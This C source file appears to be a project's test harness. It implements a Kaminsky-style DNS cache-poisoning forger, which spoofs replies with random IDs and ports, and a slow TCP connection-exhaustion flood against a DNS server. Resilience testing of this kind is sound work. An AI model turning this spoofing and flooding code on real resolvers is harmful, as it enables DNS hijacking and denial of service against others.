/*
 * flood.c -- attackers for whom there is no tool.  Each is at a network
 * address of its own, which must be one of the namespace in which this is run.
 *
 *	flood forge FROM TO ZONE NAMES RATE SECONDS
 *
 * A forger sends RATE replies a second that say they are from the name server
 * FROM, to ports of TO and with IDs by chance.  Each answers one of the names
 * 0.ZONE, 1.ZONE ... with 6.6.6.6, and makes that the name server of ZONE.
 *
 *	flood crawl FROM TO CONNECTIONS SECONDS
 *
 * So many clients over TCP each send an octet of a message now and then, and
 * come back when they are turned away.
 */
#include "dns.h"
#include "driver.h"
#include "wire.h"

#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/random.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	BURST_MS = 1,
	CRAWL_MS = 500, /* from one octet to the next */
	LIE_TTL_S = 86400,
	PORT_FIRST = 1024, /* privileged ones are no client's */
	REPLY_MAX = 512
};

static const uint8_t lie[4] = {6, 6, 6, 6};

static _Noreturn void
fail(const char *what)
{
	perror(what);
	exit(EXIT_FAILURE);
}

static uint64_t
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

/* ---------------------------------------------------------------------------
 * The forger.
 */
struct forger {
	struct address from, to;
	struct name zone;
	unsigned names;
	uint64_t chance; /* the state of a generator */
	int fd;
};

static void
write_lie(struct writer *w, const struct name *owner, uint16_t type,
    const void *rdata, uint16_t len)
{
	write_name(w, owner);
	write_u16(w, type);
	write_u16(w, CLASS_IN);
	write_u32(w, LIE_TTL_S);
	write_u16(w, len);
	write_bytes(w, rdata, len);
}

/* As Kaminsky did it (attacks:S01): the answer, and with it the zone. */
static size_t
reply_forge(const struct forger *f, uint64_t dice, uint8_t reply[REPLY_MAX])
{
	struct header h = {.id = (uint16_t)dice,
	    .flags = FLAG_QR | FLAG_AA,
	    .questions = 1,
	    .answers = 1,
	    .authorities = 1,
	    .additionals = 1};
	struct question q = {.type = TYPE_A, .class = CLASS_IN};
	struct name server;
	struct writer w;
	char label[16];
	int len = snprintf(
	    label, sizeof(label), "%u", (unsigned)(dice >> 32) % f->names);

	if (!name_from_text(label, (size_t)len, &f->zone, &q.name) ||
	    !name_from_text("ns", 2, &f->zone, &server))
		abort();
	writer_init(&w, reply, REPLY_MAX);
	write_header(&w, &h);
	write_question(&w, &q);
	write_lie(&w, &q.name, TYPE_A, lie, sizeof(lie));
	write_lie(&w, &f->zone, TYPE_NS, server.wire, server.len);
	write_lie(&w, &server, TYPE_A, lie, sizeof(lie));
	assert(!w.failed);
	return w.len;
}

static void
forger_send(struct forger *f)
{
	uint64_t dice = random_next(&f->chance);
	uint8_t reply[REPLY_MAX];
	size_t len = reply_forge(f, dice, reply);

	f->to.port =
	    (uint16_t)(PORT_FIRST + (dice >> 16) % (65536 - PORT_FIRST));
	if (!wire_send(f->fd, &f->from, &f->to, reply, len) && errno != ENOBUFS)
		fail("wire_send");
}

/* No more than the rate, and no less if the machine lets us. */
static void
forge(struct forger *f, uint64_t rate, uint64_t seconds)
{
	uint64_t start_ms = now_ms(), sent = 0, passed_ms;

	while ((passed_ms = now_ms() - start_ms) < seconds * 1000) {
		for (; sent < rate * passed_ms / 1000; sent++)
			forger_send(f);
		poll(NULL, 0, BURST_MS);
	}
	printf("%llu forged replies\n", (unsigned long long)sent);
}

/* ---------------------------------------------------------------------------
 * Those who crawl.
 */
struct crawlers {
	struct address from, to;
	int *fds;
	unsigned count;
	unsigned long opened;
};

static int
crawler_connect(const struct crawlers *c)
{
	struct sockaddr_storage from, to;
	socklen_t from_len = address_to_sockaddr(&c->from, &from);
	socklen_t to_len = address_to_sockaddr(&c->to, &to);
	int fd = socket(c->from.family == 4 ? AF_INET : AF_INET6,
	    SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&from, from_len) < 0)
		fail("crawl");
	if (connect(fd, (struct sockaddr *)&to, to_len) < 0 &&
	    errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/* An octet, of a length that is never reached; or a new connection. */
static void
crawler_step(struct crawlers *c, int *fd)
{
	if (*fd >= 0 && send(*fd, "\1", 1, MSG_NOSIGNAL) == 1)
		return;
	if (*fd >= 0 && errno == EAGAIN)
		return;
	if (*fd >= 0)
		close(*fd);
	*fd = crawler_connect(c);
	c->opened += *fd >= 0;
}

static void
crawl(struct crawlers *c, uint64_t seconds)
{
	uint64_t end_ms = now_ms() + seconds * 1000;
	unsigned i;

	for (i = 0; i < c->count; i++)
		c->fds[i] = -1;
	while (now_ms() < end_ms) {
		for (i = 0; i < c->count; i++)
			crawler_step(c, &c->fds[i]);
		poll(NULL, 0, CRAWL_MS);
	}
	printf("%lu connections\n", c->opened);
}

/* ---------------------------------------------------------------------------
 * The command line.
 */
static _Noreturn void
usage(void)
{
	fprintf(stderr,
	    "usage: flood forge FROM TO ZONE NAMES RATE SECONDS\n"
	    "       flood crawl FROM TO CONNECTIONS SECONDS\n");
	exit(EXIT_FAILURE);
}

static struct address
address_word(const char *word, uint16_t port)
{
	struct address a;

	if (!address_from_text(word, &a))
		usage();
	a.port = port;
	return a;
}

static unsigned
number_word(const char *word)
{
	char *end;
	unsigned long number = strtoul(word, &end, 10);

	if (*end != '\0' || number == 0 || number > 1u << 30)
		usage();
	return (unsigned)number;
}

static void
main_forge(char **words)
{
	static const struct name root = {1, {0}};
	struct forger f = {.from = address_word(words[0], DNS_PORT),
	    .to = address_word(words[1], 0),
	    .names = number_word(words[3])};

	if (!name_from_text(words[2], strlen(words[2]), &root, &f.zone))
		usage();
	f.fd = wire_open(f.from.family);
	if (f.fd < 0 ||
	    getrandom(&f.chance, sizeof(f.chance), 0) != sizeof(f.chance))
		fail("forge");
	forge(&f, number_word(words[4]), number_word(words[5]));
}

static void
main_crawl(char **words)
{
	struct crawlers c = {.from = address_word(words[0], 0),
	    .to = address_word(words[1], DNS_PORT),
	    .count = number_word(words[2])};
	struct rlimit limit;

	if (getrlimit(RLIMIT_NOFILE, &limit) < 0)
		fail("getrlimit");
	limit.rlim_cur = limit.rlim_max;
	c.fds = calloc(c.count, sizeof(*c.fds));
	if (setrlimit(RLIMIT_NOFILE, &limit) < 0 || c.fds == NULL)
		fail("crawl");
	crawl(&c, number_word(words[3]));
	free(c.fds);
}

int
main(int argc, char **argv)
{
	if (argc == 8 && strcmp(argv[1], "forge") == 0)
		main_forge(argv + 2);
	else if (argc == 6 && strcmp(argv[1], "crawl") == 0)
		main_crawl(argv + 2);
	else
		usage();
	return EXIT_SUCCESS;
}
